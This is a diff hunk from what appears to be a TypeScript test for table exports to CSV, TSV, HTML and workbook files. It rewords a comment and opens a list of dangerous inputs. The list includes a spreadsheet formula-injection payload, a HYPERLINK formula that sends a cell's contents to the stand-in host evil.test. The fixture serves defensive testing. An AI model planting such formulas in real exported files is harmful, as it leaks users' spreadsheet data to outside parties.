@@ -13,7 +13,7 @@ import { type Column, columns } from '../../components/table/columns.tsx';
 import { csvOfShown, htmlOfShown, tsvOfShown } from '../../components/table/files/shown.ts';
 import { workbookOfShown } from '../../components/table/files/workbook.ts';
 
-/** Assurance S-13, S-11, B-110: what a name or a reason may be made of. */
+/** Dangerous texts for a name or a reason: formulas, control characters, markup. */
 const payloads = [
   '=1+1',
   '=HYPERLINK("http://evil.test/?x="&A1,"click")',
